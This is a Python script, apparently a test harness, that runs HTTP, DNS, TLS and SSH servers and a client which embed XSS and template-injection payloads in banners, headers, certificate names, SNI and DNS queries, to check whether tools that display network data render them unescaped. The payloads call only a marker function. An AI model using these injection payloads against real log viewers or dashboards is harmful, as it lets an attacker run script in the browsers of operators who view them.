#!/usr/bin/env python3
"""Servers and a client whose every name, header and banner tries to become part of a page.

  hostile.py serve ADDRESS FOLDER      HTTP on 80, DNS on 53, TLS on 443, SSH on 22; FOLDER takes the certificate
  hostile.py talk ADDRESS              one conversation with each of them, for every text
  hostile.py scan ADDRESS              connections to ports that are closed
"""
import http.server
import pathlib
import socket
import ssl
import subprocess
import sys
import threading

# What runs where text is taken for HTML, for an attribute, for a script, for a URL, or for a template. Each would call attacked().
TEXTS = [
    "<script>attacked()</script>",
    "<img/src=x onerror=attacked()>",
    "\"><svg/onload=attacked()>",
    "'-attacked()-'",
    "javascript:attacked()",
    "</td></table><iframe srcdoc='<script>parent.attacked()</script>'>",
    "{{constructor.constructor('attacked()')()}}${attacked()}",
    "\u202eattacked\u202c<b onmouseover=attacked()>",
]
TIMEOUT = 3


class Page(http.server.BaseHTTPRequestHandler):
    server_version, sys_version = TEXTS[0], ""

    def do_GET(self):
        body = TEXTS[1].encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Disposition", "attachment; filename=\"<img src=x onerror=attacked()>.html\"")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def answer_dns(address):
    """Every question with the address 192.0.2.1, RFC 1035 section 4."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, 53))
    while True:
        q, peer = s.recvfrom(1500)
        head = q[:2] + b"\x81\x80\0\1\0\1\0\0\0\0"
        s.sendto(head + q[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xc0\0\2\1", peer)


def answer_tls(address, folder):
    cert, key = folder / "hostile.pem", folder / "hostile.key"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-keyout", key, "-out", cert, "-utf8",
                    "-subj", "/CN=<script>attacked()<\\/script>/O=<img src=x onerror=attacked()>"], check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    context.maximum_version = ssl.TLSVersion.TLSv1_2  # later versions encrypt the certificate
    listener = socket.create_server((address, 443))
    while True:
        peer, _ = listener.accept()
        try:
            with context.wrap_socket(peer, server_side=True) as tls:
                tls.recv(100)
        except OSError:
            pass


def answer_ssh(address):
    listener = socket.create_server((address, 22))
    while True:
        peer, _ = listener.accept()
        with peer:
            peer.settimeout(TIMEOUT)
            try:
                peer.sendall(b"SSH-2.0-<script>attacked()</script>\r\n")
                peer.recv(300)
            except OSError:
                pass


def serve(address, folder):
    for server, *args in ((answer_dns, address), (answer_tls, address, pathlib.Path(folder)), (answer_ssh, address)):
        threading.Thread(target=server, args=args, daemon=True).start()
    http.server.ThreadingHTTPServer((address, 80), Page).serve_forever()


def ask_http(address, text):
    safe = text.encode()
    with socket.create_connection((address, 80), TIMEOUT) as s:
        s.sendall(b"GET /" + safe.replace(b" ", b"%20") + b" HTTP/1.1\r\nHost: " + safe + b"\r\nUser-Agent: " + safe + b"\r\nReferer: http://" + safe +
                  b"\r\nConnection: close\r\n\r\n")
        while s.recv(4096):
            pass


def ask_dns(address, text):
    label = text.encode()[:63]
    question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\4test\0" + b"\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        s.sendto(question, (address, 53))
        s.recv(1500)


def ask_tls(address, text):
    # Python's own client refuses such names; openssl sends them.
    subprocess.run(["openssl", "s_client", "-connect", f"{address}:443", "-servername", text, "-tls1_2"], input=b"x", capture_output=True, timeout=10)


def ask_ssh(address, text):
    with socket.create_connection((address, 22), TIMEOUT) as s:
        s.sendall(b"SSH-2.0-" + text.encode() + b"\r\n")
        while s.recv(300):
            pass


def talk(address):
    for text in TEXTS:
        for ask in (ask_http, ask_dns, ask_tls, ask_ssh):
            ask(address, text)


def scan(address):
    """Ports that nobody listens on."""
    for port in range(2000, 2030):
        with socket.socket() as s:
            s.connect_ex((address, port))


if __name__ == "__main__":
    {"serve": serve, "talk": talk, "scan": scan}[sys.argv[1]](*sys.argv[2:])
